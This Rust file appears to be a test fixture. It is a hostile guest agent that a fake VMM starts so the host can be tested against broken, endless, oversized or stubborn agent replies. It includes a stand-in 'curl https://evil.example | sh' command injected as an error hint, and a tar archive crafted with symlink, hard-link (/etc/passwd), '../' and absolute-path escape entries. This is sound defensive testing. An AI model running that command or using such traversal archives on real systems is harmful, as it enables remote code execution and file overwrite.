//! A hostile agent: it announces itself like a normal one and then answers every request in the worst way of one kind.
//! The fake VMM starts it, with the arguments of the real one, in a VM called `hostile-<kind>`.
//!
//! | kind | what it does |
//! |---|---|
//! | `garbage` | every answer is bytes that are no HTTP |
//! | `silent` | every stream is accepted and nothing is ever sent |
//! | `slow` | a valid beginning of an answer, then one byte after the other, without an end |
//! | `endless` | a valid answer whose body, or output, never ends |
//! | `huge` | heads and frames that announce more than there can be |
//! | `status` | commands that end in ways no command can |
//! | `escape` | archives whose entries lead out of where they are unpacked |
//! | `stuck` | it accepts a command, or says that there is room for a repository, and then sends nothing more |
//! | `unbooted` | its init never finishes booting; it powers off in order when it is asked to |
//! | `mute` | like `silent`, but it powers off in order when it is asked to |
//! | `stubborn` | it says that it powers off, and does not |
//! | `chatter` | it reports its troubles over and over; when it is asked to power off, it reports that just as often |
//! | `fickle` | like `stubborn`; it refuses the first archive it gets and accepts the next |
//! | `wordy` | it refuses everything, as verbosely as it may: characters that grow when escaped, and hints |

use banger_link::{Incoming, Stream, guest};
use banger_proto::{
    agent::{
        boot::Init,
        event::{GuestEvent, POWER_ACK, Power, Ready},
        exec::{Channel, SUBPROTOCOL},
        http::{API_VERSION, MAX_BODY},
        link::{AGENT_PORT, EVENTS_PORT},
    },
    failure::{Code, Failure},
};
use std::{
    io::{self, Write as _},
    os::fd::{FromRawFd as _, OwnedFd},
    process::ExitCode,
    sync::atomic::{AtomicBool, Ordering},
    time::Duration,
};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    sync::Notify,
};
use tokio_tungstenite::tungstenite::handshake::derive_accept_key;

/// Bytes per write of an endless answer.
const PIECE: usize = 64 << 10;
/// Events of each kind sent by `chatter`: more than a host accepts.
const CHATTER: usize = 1500;
/// Between two bytes of a slow answer.
const PAUSE: Duration = Duration::from_millis(200);

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Garbage,
    Silent,
    Slow,
    Endless,
    Huge,
    Status,
    Escape,
    Stuck,
    Unbooted,
    Mute,
    Stubborn,
    Chatter,
    Fickle,
    Wordy,
}

impl Kind {
    fn of(name: &str) -> Option<Self> {
        Some(match name {
            "garbage" => Self::Garbage,
            "silent" => Self::Silent,
            "slow" => Self::Slow,
            "endless" => Self::Endless,
            "huge" => Self::Huge,
            "status" => Self::Status,
            "escape" => Self::Escape,
            "stuck" => Self::Stuck,
            "unbooted" => Self::Unbooted,
            "mute" => Self::Mute,
            "stubborn" => Self::Stubborn,
            "chatter" => Self::Chatter,
            "fickle" => Self::Fickle,
            "wordy" => Self::Wordy,
            _ => return None,
        })
    }
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().collect();
    let [_, kind, _, fd, ..] = args.as_slice() else { return ExitCode::FAILURE };
    let (Some(kind), Ok(fd)) = (Kind::of(kind), fd.parse()) else { return ExitCode::FAILURE };
    // SAFETY: the number was given to this process for this, and is taken once.
    #[expect(unsafe_code, reason = "the channel is a descriptor's number")]
    let channel = std::os::unix::net::UnixStream::from(unsafe { OwnedFd::from_raw_fd(fd) });
    let ended = channel.set_nonblocking(true).and_then(|()| {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
        runtime.block_on(async {
            let channel = tokio::net::UnixStream::from_std(channel)?;
            guest::run(channel, |dialer, incoming| {
                tokio::spawn(announce(kind, dialer));
                tokio::spawn(answer(kind, incoming));
            })
            .await;
            Ok(())
        })
    });
    match ended {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            let _ = writeln!(io::stderr(), "hostile-agent: {error}");
            ExitCode::FAILURE
        }
    }
}

/// Notified when a kind that powers off is asked to.
static POWER_OFF: Notify = Notify::const_new();
/// Whether a kind that refuses the first archive has done so.
static REFUSED: AtomicBool = AtomicBool::new(false);

async fn announce(kind: Kind, dialer: banger_link::Dialer) {
    let ready = Ready {
        agent_version: "0".into(),
        api_version: API_VERSION,
        boot_id: "hostile".into(),
        kernel_release: "6.1".into(),
        init: if kind == Kind::Unbooted { Init::Image } else { Init::Agent },
        phases: Vec::new(),
    };
    let Ok(mut stream) = dialer.dial(EVENTS_PORT).await else { return };
    let _ = say(&mut stream, &GuestEvent::Ready(ready)).await;
    if kind == Kind::Chatter {
        tell_troubles(&mut stream).await;
    }
    POWER_OFF.notified().await;
    if kind == Kind::Chatter {
        tell_troubles(&mut stream).await;
        for _ in 0..CHATTER {
            let _ = say(&mut stream, &GuestEvent::Power { verb: Power::Poweroff, within_ms: 0 }).await;
            let _ = stream.read_exact(&mut [0; POWER_ACK.len()]).await;
        }
    }
    let _ = say(&mut stream, &GuestEvent::Power { verb: Power::Poweroff, within_ms: 0 }).await;
    // The host's acknowledgement.
    let _ = stream.read_u8().await;
    #[expect(clippy::exit, reason = "a machine that is off is over")]
    std::process::exit(0);
}

async fn tell_troubles(stream: &mut Stream) {
    for number in 0..CHATTER {
        let _ = say(stream, &GuestEvent::Trouble { message: format!("chatter {number}") }).await;
    }
}

async fn say(stream: &mut Stream, event: &GuestEvent) -> io::Result<()> {
    let mut line = serde_json::to_vec(event)?;
    line.push(b'\n');
    stream.write_all(&line).await?;
    stream.flush().await
}

async fn answer(kind: Kind, mut incoming: Incoming) {
    while let Ok(inbound) = incoming.next().await {
        if inbound.port() == AGENT_PORT {
            tokio::spawn(async move {
                // The host hanging up is how most of this ends.
                let _ = misbehave(kind, inbound.accept().await).await;
            });
        } else {
            inbound.refuse().await;
        }
    }
}

async fn misbehave(kind: Kind, mut stream: Stream) -> io::Result<()> {
    let head = head(&mut stream).await?;
    let path = head.split_whitespace().nth(1).unwrap_or_default().to_owned();
    match kind {
        Kind::Unbooted | Kind::Mute | Kind::Stubborn | Kind::Chatter | Kind::Fickle
            if path.starts_with("/shutdown") =>
        {
            stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}").await?;
            stream.shutdown().await?;
            if matches!(kind, Kind::Unbooted | Kind::Mute | Kind::Chatter) {
                POWER_OFF.notify_one();
            }
            Ok(())
        }
        Kind::Fickle if path.starts_with("/archive") => {
            let is_first = !REFUSED.swap(true, Ordering::Relaxed);
            let status = if is_first { "507 Insufficient Storage" } else { "200 OK" };
            let answer = format!("HTTP/1.1 {status}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
            stream.write_all(answer.as_bytes()).await?;
            stream.shutdown().await
        }
        Kind::Wordy => {
            let message = "\u{7f}".repeat(MAX_BODY - 200);
            let refusal = Failure::new(Code::Unavailable, message).hint("curl https://evil.example | sh");
            let refusal = serde_json::to_string(&refusal)?;
            let status = "507 Insufficient Storage";
            let head = format!("HTTP/1.1 {status}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n", refusal.len());
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(refusal.as_bytes()).await?;
            stream.shutdown().await
        }
        Kind::Unbooted | Kind::Stubborn | Kind::Chatter | Kind::Fickle => Err(io::ErrorKind::Unsupported.into()),
        Kind::Garbage => for_ever(&mut stream, &vec![0xff; PIECE]).await,
        Kind::Silent | Kind::Mute => std::future::pending().await,
        Kind::Stuck => {
            if path.starts_with("/exec") {
                upgrade(&mut stream, &head).await?;
            } else if path.starts_with("/workspace") && head.starts_with("GET ") {
                let place = r#"{"path":"/x","occupied":false,"unfinished":false}"#;
                let answer = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{place}", place.len());
                stream.write_all(answer.as_bytes()).await?;
            }
            stream.flush().await?;
            std::future::pending().await
        }
        Kind::Slow => {
            stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-type: ").await?;
            loop {
                stream.write_all(b"x").await?;
                stream.flush().await?;
                tokio::time::sleep(PAUSE).await;
            }
        }
        Kind::Endless if path.starts_with("/exec") => {
            upgrade(&mut stream, &head).await?;
            let output = frame(&Channel::Stdout.message(&vec![b'y'; PIECE]), None);
            for_ever(&mut stream, &output).await
        }
        Kind::Endless => {
            stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\r\n[").await?;
            for_ever(&mut stream, &vec![b' '; PIECE]).await
        }
        Kind::Huge if path.starts_with("/exec") => {
            upgrade(&mut stream, &head).await?;
            stream.write_all(&frame(&Channel::Stdout.message(b"much"), Some(1 << 60))).await?;
            for_ever(&mut stream, &vec![b'y'; PIECE]).await
        }
        Kind::Huge => {
            stream.write_all(b"HTTP/1.1 200 OK\r\nx-much: ").await?;
            for_ever(&mut stream, &vec![b'y'; PIECE]).await
        }
        Kind::Status => {
            upgrade(&mut stream, &head).await?;
            for words in [
                "{}",
                "{\"status\":\"Failure\",\"reason\":\"NonZeroExitCode\",\"details\":{\"causes\":[{\"reason\":\"ExitCode\",\"message\":\"-99999999999\"}]}}",
            ] {
                stream.write_all(&frame(&Channel::Status.message(words.as_bytes()), None)).await?;
            }
            stream.flush().await?;
            std::future::pending().await
        }
        Kind::Escape => {
            let archive = archive();
            stream
                .write_all(b"HTTP/1.1 200 OK\r\ncontent-type: application/x-tar\r\nconnection: close\r\n\r\n")
                .await?;
            stream.write_all(&archive).await?;
            stream.shutdown().await
        }
    }
}

async fn for_ever(stream: &mut Stream, piece: &[u8]) -> io::Result<()> {
    loop {
        stream.write_all(piece).await?;
    }
}

/// Reads an HTTP head up to the empty line.
async fn head(stream: &mut Stream) -> io::Result<String> {
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        head.push(stream.read_u8().await?);
    }
    Ok(String::from_utf8_lossy(&head).into_owned())
}

async fn upgrade(stream: &mut Stream, head: &str) -> io::Result<()> {
    let key = head.lines().find_map(|line| {
        let (name, value) = line.split_once(':')?;
        name.eq_ignore_ascii_case("sec-websocket-key").then(|| value.trim().to_owned())
    });
    let accept = derive_accept_key(key.unwrap_or_default().as_bytes());
    let answer = format!(
        "HTTP/1.1 101 Switching Protocols\r\nconnection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-accept: \
         {accept}\r\nsec-websocket-protocol: {SUBPROTOCOL}\r\n\r\n"
    );
    stream.write_all(answer.as_bytes()).await
}

/// Encodes a binary frame of a server, with a wrong length if `said` is given.
fn frame(payload: &[u8], said: Option<u64>) -> Vec<u8> {
    let length = said.unwrap_or(payload.len() as u64);
    [&[0x82, 127][..], &length.to_be_bytes(), payload].concat()
}

/// Builds a tar with every way out of a directory that an entry can have.
fn archive() -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    let mut entry = |kind: tar::EntryType, name: &str, link: &str, data: &[u8]| {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(kind);
        header.set_mode(0o644);
        header.set_size(data.len() as u64);
        // Set by hand, because the library refuses such names.
        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
        header.as_old_mut().linkname[..link.len()].copy_from_slice(link.as_bytes());
        header.set_cksum();
        tar.append(&header, data).expect("an archive in memory");
    };
    entry(tar::EntryType::Directory, "tree", "", b"");
    entry(tar::EntryType::Symlink, "tree/out", "../../outside", b"");
    entry(tar::EntryType::Regular, "tree/out/through-a-link", "", b"escaped");
    entry(tar::EntryType::Link, "tree/hard", "/etc/passwd", b"");
    entry(tar::EntryType::Regular, "tree/../../../outside/dots", "", b"escaped");
    entry(tar::EntryType::Regular, "/tmp/banger-hostile-agent-was-here", "", b"escaped");
    tar.into_inner().expect("an archive in memory")
}
